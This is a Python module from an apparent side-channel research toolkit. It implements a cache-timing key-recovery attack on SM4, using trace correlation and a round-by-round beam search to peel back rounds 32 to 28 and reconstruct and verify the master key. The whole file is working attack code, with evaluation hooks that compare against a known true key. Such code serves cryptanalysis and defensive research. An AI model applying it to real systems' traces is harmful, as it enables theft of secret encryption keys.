import logging
from dataclasses import dataclass, field
from typing import Dict, List, NamedTuple, Optional, Sequence, Tuple

import numpy as np
from tqdm import tqdm

from ciphers.sm4_cn import (
    ROUNDS,
    sm4_cn_batch,
    sm4_key_schedule,
    sm4_recover_master_key,
    t_transform,
    word_bytes,
    words_of,
)
from rawjam_analysis import (
    ByteRanking,
    CorrelationAccumulator,
    RankReport,
    iter_key_candidates,
    rank_candidates,
)
from rawjam_config import (
    CIPHER_SM4_CN,
    DEFAULT_JAM_WORD,
    LINE,
    SM4_ATTACK_ROUNDS,
    SM4_BEAM_WIDTH,
    SM4_TRACES_PER_ROUND,
    WORDS_PER_TABLE,
)
from rawjam_leakage import TraceSet
from rawjam_util import DomainError, VerificationFailed, check_jam_word

log = logging.getLogger(__name__)

# a byte-wise attack sees the top 6 bits of every round-key byte
PARTIAL_MASK = 0xFCFCFCFC
SIX_BIT_CANDIDATES = 64
COMPLETIONS = 256

Window = Tuple[np.ndarray, np.ndarray, np.ndarray, np.ndarray]


@dataclass(frozen=True)
class Sm4AttackConfig:
    jam_word: int = DEFAULT_JAM_WORD
    traces_per_round: int = SM4_TRACES_PER_ROUND
    beam_width: int = SM4_BEAM_WIDTH

    def __post_init__(self):
        check_jam_word(self.jam_word, WORDS_PER_TABLE)
        if self.traces_per_round < 2:
            raise DomainError(f"traces per round `{self.traces_per_round}` must be >= 2")
        if self.beam_width < 1:
            raise DomainError(f"beam width `{self.beam_width}` must be >= 1")


@dataclass
class Sm4RoundState:
    """
    What the cascade knows after some rounds: full round keys by round number,
    and the top 6 bits of every byte of the next round key (`partial_round`).
    """

    keys: Dict[int, int] = field(default_factory=dict)
    partial_round: Optional[int] = None
    partial: int = 0
    score: float = 0.0
    diagnostics: List[str] = field(default_factory=list)

    def known_keys(self) -> List[int]:
        """Full keys from round 32 downward, contiguous."""
        out = []
        r = ROUNDS
        while r in self.keys:
            out.append(self.keys[r])
            r -= 1
        return out

    def next_round(self) -> int:
        return ROUNDS if self.partial_round is None else self.partial_round - 1

    def copy(self) -> "Sm4RoundState":
        return Sm4RoundState(dict(self.keys), self.partial_round, self.partial, self.score, list(self.diagnostics))


class RoundOutcome(NamedTuple):
    """
    Result of attacking one round for one starting state: the 6-bit
    candidate rankings of k_r, and when r < 32 the completion chosen for
    k_{r+1} together with the ranking of all completions.
    """

    state: Sm4RoundState
    six_bit: List[ByteRanking]
    completions: Optional[ByteRanking]


@dataclass
class Sm4AttackResult:
    key: Optional[bytes]
    verified: bool
    state: Sm4RoundState
    report: RankReport
    completions: RankReport
    diagnostics: List[str]

    def __repr__(self):
        key = "none" if self.key is None else self.key.hex()
        lines = [LINE, f"master key: {key} ({'verified' if self.verified else 'NOT verified'})", *self.diagnostics, LINE]
        return "\n".join(lines)


def initial_window(ciphertexts: np.ndarray) -> Window:
    """
    Round-32 state (X32, X33, X34, X35) from the ciphertext (X35, X34, X33, X32).
    """
    w = words_of(ciphertexts)
    return (w[:, 3], w[:, 2], w[:, 1], w[:, 0])


def partial_input(window: Window) -> np.ndarray:
    """The key-free part of the S-box input word of the window's round."""
    return window[0] ^ window[1] ^ window[2]


def step_back(window: Window, round_key: int) -> Window:
    w1, w2, w3, w4 = window
    x = w1 ^ w2 ^ w3 ^ np.uint32(round_key)
    return (w4 ^ t_transform(x), w1, w2, w3)


def eq1_batch(ciphertexts: np.ndarray, known_keys: Sequence[int]) -> Tuple[np.ndarray, Window]:
    """
    Peels rounds off the ciphertexts with full round keys given from round 32
    downward. With keys k32..k_r returns the round-r S-box input word x_r and
    the round-r state window.
    """
    if not known_keys:
        raise DomainError("eq1 needs at least the round 32 key")
    if len(known_keys) > ROUNDS:
        raise DomainError(f"`{len(known_keys)}` round keys given, SM4 has `{ROUNDS}`")
    window = initial_window(ciphertexts)
    for k in known_keys[:-1]:
        window = step_back(window, k)
    return partial_input(window) ^ np.uint32(known_keys[-1]), window


def eq1_eval(ciphertext: bytes, known_keys: Sequence[int]) -> Tuple[int, Tuple[int, int, int, int]]:
    ct = np.frombuffer(bytes(ciphertext), dtype=np.uint8).reshape(1, 16)
    x, window = eq1_batch(ct, known_keys)
    return int(x[0]), tuple(int(w[0]) for w in window)


def six_bit_table(jam_word: int) -> np.ndarray:
    """
    (256, 64) indicator indexed by [partial input byte, top 6 key bits]: the
    lookup lands in the jammed word exactly when the top 6 bits of the S-box
    index equal the jammed word.
    """
    check_jam_word(jam_word, WORDS_PER_TABLE)
    v = np.arange(256)[:, None] >> 2
    return ((v ^ np.arange(SIX_BIT_CANDIDATES)[None, :]) == jam_word).astype(np.uint8)


def expand_completion(c: int) -> int:
    """
    Spreads an 8-bit completion over the low 2 bits of each key byte, most
    significant byte first.
    """
    out = 0
    for i in range(4):
        out |= ((c >> (6 - 2 * i)) & 0x3) << (24 - 8 * i)
    return out


def completion_of(round_key: int) -> int:
    out = 0
    for i in range(4):
        out = (out << 2) | ((round_key >> (24 - 8 * i)) & 0x3)
    return out


def join_partial(partial: int, completion: int) -> int:
    if partial & ~PARTIAL_MASK:
        raise Exception(f"partial key `{partial:#010x}` has bits outside the 6-bit mask")
    return partial | expand_completion(completion)


def partial_from_bytes(six_bits: Sequence[int]) -> int:
    out = 0
    for b in six_bits:
        out = (out << 8) | ((b & 0x3F) << 2)
    return out


def _six_bit_correlations(u: np.ndarray, times: np.ndarray, table: np.ndarray) -> List[Tuple[np.ndarray, np.ndarray]]:
    u_bytes = word_bytes(u)
    out = []
    for i in range(4):
        acc = CorrelationAccumulator(SIX_BIT_CANDIDATES)
        acc.update_grouped(table, u_bytes[:, i].astype(np.int64), times)
        out.append(acc.result())
    return out


def _rank_six_bit(
    r: int, corr: List[Tuple[np.ndarray, np.ndarray]], true_keys: Optional[List[int]]
) -> List[ByteRanking]:
    rankings = []
    for i, (values, degenerate) in enumerate(corr):
        true = None
        if true_keys is not None:
            true = ((true_keys[r - 1] >> (24 - 8 * i)) & 0xFF) >> 2
        rankings.append(rank_candidates(values, true, degenerate, position=4 * (ROUNDS - r) + i))
    return rankings


def _check_traces(ts: TraceSet):
    if ts.cipher_id != CIPHER_SM4_CN:
        raise DomainError(f"SM4 attack needs an `{CIPHER_SM4_CN}` trace set, got `{ts.cipher_id}`")
    if ts.count < 2 or np.ptp(ts.times) == 0:
        raise DomainError("time vector is degenerate, nothing to correlate")


def attack_round(
    ts: TraceSet,
    state: Sm4RoundState,
    r: int,
    cfg: Sm4AttackConfig = Sm4AttackConfig(),
    true_keys: Optional[List[int]] = None,
    progress: bool = False,
) -> List[RoundOutcome]:
    """
    Attacks round `r` starting from `state`.
    At r = 32 the four bytes of k32 are ranked over 64 six-bit candidates. For
    r < 32 every one of the 256 completions of k_{r+1} is tried; each gives a
    different round-r state, and its score is the sum over the four bytes of
    the best six-bit correlation. The best `cfg.beam_width` completions come
    back as new states, best first.
    """
    _check_traces(ts)
    if not 1 <= r <= ROUNDS:
        raise DomainError(f"round `{r}` outside [1, {ROUNDS}]")
    known = state.known_keys()
    if r == ROUNDS:
        if known or state.partial_round is not None:
            raise DomainError("round 32 must be attacked from an empty state")
    elif state.partial_round != r + 1 or len(known) != ROUNDS - r - 1:
        raise DomainError(
            f"round `{r}` needs full keys above round {r + 1} and the partial key of round {r + 1}"
        )

    sub = ts.prefix(min(ts.count, cfg.traces_per_round))
    times = sub.times
    table = six_bit_table(cfg.jam_word)

    if r == ROUNDS:
        corr = _six_bit_correlations(partial_input(initial_window(sub.ciphertexts)), times, table)
        six_bit = _rank_six_bit(r, corr, true_keys)
        outcomes = []
        report = RankReport(six_bit, sub.count)
        for cand in _first(iter_key_candidates(report), cfg.beam_width):
            nxt = state.copy()
            nxt.partial_round = r
            nxt.partial = partial_from_bytes(cand)
            nxt.score = float(sum(br.values[c] for br, c in zip(six_bit, cand)))
            nxt.diagnostics.append(f"round {r}: k{r} partial {nxt.partial:#010x} score {nxt.score:.5f}")
            outcomes.append(RoundOutcome(nxt, six_bit, None))
        return outcomes

    window = initial_window(sub.ciphertexts)
    for k in known:
        window = step_back(window, k)

    scores = np.empty(COMPLETIONS)
    per_completion = []
    for c in tqdm(range(COMPLETIONS), desc=f"round {r} completions", disable=not progress):
        candidate = join_partial(state.partial, c)
        corr = _six_bit_correlations(partial_input(step_back(window, candidate)), times, table)
        scores[c] = sum(float(values.max()) for values, _ in corr)
        per_completion.append(corr)

    true_completion = None
    if true_keys is not None:
        true_completion = completion_of(true_keys[r])
    completions = rank_candidates(scores, true_completion, position=r + 1)

    outcomes = []
    for c in completions.order[: cfg.beam_width]:
        c = int(c)
        corr = per_completion[c]
        six_bit = _rank_six_bit(r, corr, true_keys)
        nxt = state.copy()
        nxt.keys[r + 1] = join_partial(state.partial, c)
        nxt.partial_round = r
        nxt.partial = partial_from_bytes([br.best for br in six_bit])
        nxt.score = state.score + float(scores[c])
        nxt.diagnostics.append(
            f"round {r}: k{r + 1} = {nxt.keys[r + 1]:#010x} (completion {c:#04x}, "
            f"score {scores[c]:.5f}, margin {completions.margin:.5f}), k{r} partial {nxt.partial:#010x}"
        )
        outcomes.append(RoundOutcome(nxt, six_bit, completions))
    return outcomes


def _first(it, n: int) -> list:
    out = []
    for item in it:
        out.append(item)
        if len(out) >= n:
            break
    return out


def verify_state(state: Sm4RoundState, ts: TraceSet) -> Tuple[Optional[bytes], bool, str]:
    """
    Inverts the key schedule from the four full keys k29..k32 and checks the
    partial k28 against the schedule of the result. When record 0 comes with
    its plaintext, the key must also re-encrypt it.
    """
    if any(r not in state.keys for r in (29, 30, 31, 32)) or state.partial_round != 28:
        return None, False, "cascade incomplete: k29..k32 and partial k28 needed"
    key = sm4_recover_master_key(state.keys[29], state.keys[30], state.keys[31], state.keys[32])
    k28 = sm4_key_schedule(key)[27]
    if k28 & PARTIAL_MASK != state.partial:
        return key, False, f"k28 mismatch: schedule gives {k28 & PARTIAL_MASK:#010x}, recovered {state.partial:#010x}"
    if ts.known_plaintext is not None:
        pt = np.frombuffer(ts.known_plaintext, dtype=np.uint8).reshape(1, 16)
        ct, _ = sm4_cn_batch(key, pt)
        if bytes(ct[0]) != bytes(ts.ciphertexts[0]):
            return key, False, "known plaintext does not re-encrypt to record 0"
    return key, True, "verified"


def recover(
    ts: TraceSet,
    cfg: Sm4AttackConfig = Sm4AttackConfig(),
    true_key: Optional[bytes] = None,
    progress: bool = False,
) -> Sm4AttackResult:
    """
    Runs the five-round cascade 32..28 with a beam of `cfg.beam_width` states
    and returns the first state whose key verifies, or the best failing one.
    """
    _check_traces(ts)
    true_keys = None if true_key is None else sm4_key_schedule(true_key)

    beam = [RoundOutcome(Sm4RoundState(), [], None)]
    path: Dict[int, Tuple[List[ByteRanking], Optional[ByteRanking]]] = {}
    for r in SM4_ATTACK_ROUNDS:
        candidates = []
        for outcome in beam:
            candidates.extend(attack_round(ts, outcome.state, r, cfg, true_keys, progress))
        candidates.sort(key=lambda o: -o.state.score)
        beam = candidates[: cfg.beam_width]
        path[r] = (beam[0].six_bit, beam[0].completions)
        log.info(beam[0].state.diagnostics[-1])

    observations = min(ts.count, cfg.traces_per_round)
    failures = []
    for outcome in beam:
        key, ok, why = verify_state(outcome.state, ts)
        if ok:
            return _result(key, True, outcome.state, path, [], observations)
        failures.append(why)

    # NOTE: the reports follow the best beam entry, which is the only one at width 1
    best = beam[0].state
    key, _, _ = verify_state(best, ts)
    return _result(key, False, best, path, failures, observations)


def _result(key, verified, state, path, failures, observations) -> Sm4AttackResult:
    six_bit = [br for r in SM4_ATTACK_ROUNDS for br in path[r][0]]
    completions = [path[r][1] for r in SM4_ATTACK_ROUNDS if path[r][1] is not None]
    return Sm4AttackResult(
        key=key,
        verified=verified,
        state=state,
        report=RankReport(six_bit, observations),
        completions=RankReport(completions, observations),
        diagnostics=state.diagnostics + failures,
    )


def full_attack(ts: TraceSet, cfg: Sm4AttackConfig = Sm4AttackConfig(), progress: bool = False) -> bytes:
    result = recover(ts, cfg, progress=progress)
    if not result.verified:
        raise VerificationFailed("recovered SM4 key failed verification", result.diagnostics)
    return result.key
